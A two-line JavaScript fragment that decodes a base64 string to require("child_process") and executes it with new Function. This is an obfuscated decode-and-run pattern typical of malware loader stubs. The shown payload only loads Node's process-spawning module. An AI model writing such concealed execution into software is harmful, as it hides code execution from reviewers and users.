const p = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp';
new Function(Buffer.from(p, 'base64').toString())();
